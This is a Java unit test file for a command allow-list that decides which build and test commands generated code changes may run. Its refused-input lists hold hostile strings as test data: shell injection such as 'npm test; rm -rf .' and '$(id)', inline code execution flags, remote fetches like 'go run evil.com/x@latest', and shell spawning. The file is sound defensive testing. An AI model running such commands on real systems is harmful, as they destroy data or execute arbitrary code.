// SPDX-License-Identifier: Apache-2.0
package dev.evograft.evolution.evaluate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AllowListTest {

  private final AllowList plain = new AllowList(List.of());
  private final AllowList wide =
      new AllowList(List.of("mvn", "gradle", "java", "pytest", "cargo", "go", "python3"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "node scripts/check.js",
        "node --test test/a.test.js",
        "node --test",
        "node --check src/a.mjs",
        "node scripts/check.js src/a.js",
        "npm test",
        "npm run lint",
        "npm run test:unit --silent",
        "npm run type-check",
        "npx --no-install eslint src",
        "npx --no-install tsc --noEmit",
        "npx --no-install vitest run",
        "npx --no-install jest test/a.test.js"
      })
  void whatChecksAndCarriesNoCodeIsRun(String command) {
    AllowList.Sorted sorted = plain.sort(List.of(command), Check.Origin.GENE);

    assertThat(sorted.refused()).isEmpty();
    assertThat(sorted.checks()).singleElement().extracting(Check::text).isEqualTo(command);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "   ",
        "node",
        "node -e 'process.exit(0)'",
        "node --eval=1 a.js",
        "node -p 1",
        "node -r ./hook.js a.js",
        "node --require ./hook.js a.js",
        "node --import ./hook.mjs a.js",
        "node --loader x a.js",
        "node --env-file=.env a.js",
        "node --inspect a.js",
        "node /tmp/a.js",
        "node ../a.js",
        "node a/../../b.js",
        "node node_modules/tsx/dist/cli.mjs -e 'code'",
        "node node_modules/tsx/dist/cli.mjs x.ts",
        "node Node_Modules/a.js",
        "node dist/check.js",
        "node .cache/check.js",
        "node scripts/check.js --eval is-an-argument",
        "npm install",
        "npm exec x",
        "npm run",
        "npm run ../x",
        "npm run deploy",
        "npm run publish:all",
        "npm --prefix /tmp test",
        "npm test --script-shell=/bin/sh",
        "npm test -- '$(id)'",
        "npm test -- --require ./x.js",
        "npm test -- --grep 'adds two numbers'",
        "npm run test x.js",
        "npm run ts -- -e 'code'",
        "npm run test --node-options=--import=./x.mjs",
        "npx eslint",
        "npx --yes eslint",
        "npx --no-install -c 'eslint x'",
        "npx --no-install --package=x y",
        "npx --no-install cross-env A=1 sh -c 'id'",
        "npx --no-install concurrently 'id'",
        "npx --no-install tsx -e 'code'",
        "npx --no-install ts-node -e code",
        "npx --no-install zx a.mjs",
        "npx --no-install dotenv -- id",
        "npx --no-install rimraf src",
        "npx --no-install @scope/tool .",
        "npx --no-install eslint --rulesdir x src",
        "npx --no-install jest --config=x.js",
        "npx --no-install eslint ../other",
        "npm test; rm -rf .",
        "npm test && true",
        "npm test | tee log",
        "npm test > log",
        "npm test $(id)",
        "npm test `id`",
        "npm test \"$HOME\"",
        "npm run a*",
        "FOO=bar npm test",
        "node 'unclosed.js",
        "node a.js\nrm -rf .",
        "mvn verify",
        "sh -c true",
        "./run.sh",
        "/usr/bin/node a.js"
      })
  void whatCouldDoMoreIsRefusedWithAReason(String command) {
    AllowList.Sorted sorted = plain.sort(List.of(command), Check.Origin.GENE);

    assertThat(sorted.checks()).isEmpty();
    assertThat(sorted.refused()).singleElement().asString().contains("' is not run: ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mvn -q verify",
        "mvn -o test",
        "gradle test --offline",
        "java src/Check.java",
        "pytest -q tests",
        "cargo test --locked",
        "go test ./...",
        "go vet ./cmd/a",
        "python3 tests/run.py",
        "python3 -m pytest tests",
        "python3 -m unittest discover"
      })
  void whatTheUserAllowedIsRun(String command) {
    assertThat(wide.sort(List.of(command), Check.Origin.GENE).refused()).isEmpty();
    assertThat(plain.sort(List.of(command), Check.Origin.GENE).checks()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mvn",
        "mvn deploy",
        "mvn com.evil:plugin:1.0:run",
        "mvn -D exec.executable=sh exec:exec",
        "mvn test -Dexec.executable=sh",
        "mvn -f ../other verify",
        "mvn -f../other verify",
        "mvn -s settings.xml verify",
        "gradle publish",
        "gradle -I init.gradle test",
        "gradle -Dx=y test",
        "gradle --system-prop=x=y test",
        "java -javaagent:x.jar Main",
        "java -cp .:/abs/x.jar Main",
        "java @args",
        "java Main",
        "pytest -p evil",
        "pytest -qp evil",
        "pytest /abs",
        "cargo install evil",
        "cargo run",
        "cargo test --config build.rustc-wrapper=x",
        "go run evil.com/x@latest",
        "go install evil.com/x@latest",
        "go generate ./...",
        "go test -exec ./x ./...",
        "go test evil.com/x",
        "go test ./../x",
        "python3 -c pass",
        "python3 -Bc pass",
        "python3 -Ic pass",
        "python3 -m http.server",
        "python3 -m pytest -p evil",
        "python3.12 -c pass",
        "python3 venv/bin/x.py",
        "node .",
        "node ./",
        "node --check .",
        "node --test ."
      })
  void butOnlyWithWordsThatAreKnownToBeGood(String command) {
    assertThat(wide.sort(List.of(command), Check.Origin.GENE).checks()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "sh",
        "bash.exe",
        "PowerShell",
        "env",
        "busybox",
        "docker",
        "/usr/bin/mvn",
        "./x",
        ""
      })
  void ofOtherProgramsNothingIsKnown(String name) {
    assertThatThrownBy(() -> new AllowList(List.of(name)))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("cannot be allowed for genes")
        .hasMessageEndingWith("write any other command into evolve.validation, with its arguments");
  }

  @Test
  void whatTheUserWroteIsRunAsItIsWritten() {
    List<String> commands =
        List.of(
            "mvn -B -Dtest=FooTest -pl a/b test", "make check", "npm test -- --grep 'two words'");

    AllowList.Sorted sorted = plain.sort(commands, Check.Origin.SETTING);

    assertThat(sorted.refused()).isEmpty();
    assertThat(sorted.checks().get(2).words()).endsWith("--grep", "two words");
    assertThat(plain.sort(List.of("make && rm x"), Check.Origin.SETTING).refused()).hasSize(1);
  }

  @Test
  void wordsAreThoseOfAShell() {
    assertThat(CommandText.words("node  a.js 'it''s' \"two \\\"words\\\"\" b\\ c ''"))
        .containsExactly("node", "a.js", "its", "two \"words\"", "b c", "");
  }
}
